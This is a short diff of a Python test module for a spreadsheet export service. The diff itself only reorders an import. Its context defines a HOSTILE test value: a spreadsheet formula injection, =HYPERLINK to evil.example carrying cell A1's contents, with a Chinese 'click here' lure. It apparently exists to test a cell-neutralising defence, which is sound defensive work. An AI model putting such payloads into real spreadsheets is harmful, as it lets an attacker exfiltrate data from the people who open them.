@@ -11,9 +11,8 @@ from openpyxl import load_workbook
 
 from service.store.models import Consortium, Organisation
 from service.usecases.spreadsheet_cells import neutralise_cell
+from tests.support.pages import sign_in
 from tests.support.procedure import LEAD
-
-from .pages import sign_in
 
 HOSTILE = {
     "name": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
